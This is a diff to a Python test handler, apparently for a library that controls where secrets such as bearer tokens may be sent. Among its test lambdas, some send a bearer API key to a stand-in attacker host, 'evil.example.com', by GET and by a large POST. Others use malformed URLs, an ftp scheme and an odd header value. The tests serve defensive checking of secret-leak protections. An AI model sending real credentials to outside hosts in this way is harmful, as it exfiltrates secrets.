@@ -127,6 +127,10 @@ def _secrets(_: Request) -> Response:
         not_set=lambda: seen(secrets.bearer("not-set")),
         not_a_field=lambda: seen(secrets.header("api-key", "host")),
         evil=lambda: http.get("https://evil.example.com/", secrets=[secrets.bearer("api-key")]).status,
+        evil_post=lambda: http.post("https://evil.example.com/", json="a" * 200_000, secrets=[secrets.bearer("api-key")]).status,
+        field=lambda: http.get(f"{origin}/digest", headers={"x-a": "€"}, secrets=[secrets.bearer("api-key")]).status,
+        scheme=lambda: http.get("ftp://api.example.com/", secrets=[secrets.bearer("api-key")]).status,
+        nonsense=lambda: http.get("https://[/", secrets=[secrets.bearer("api-key")]).status,
     )
 
 
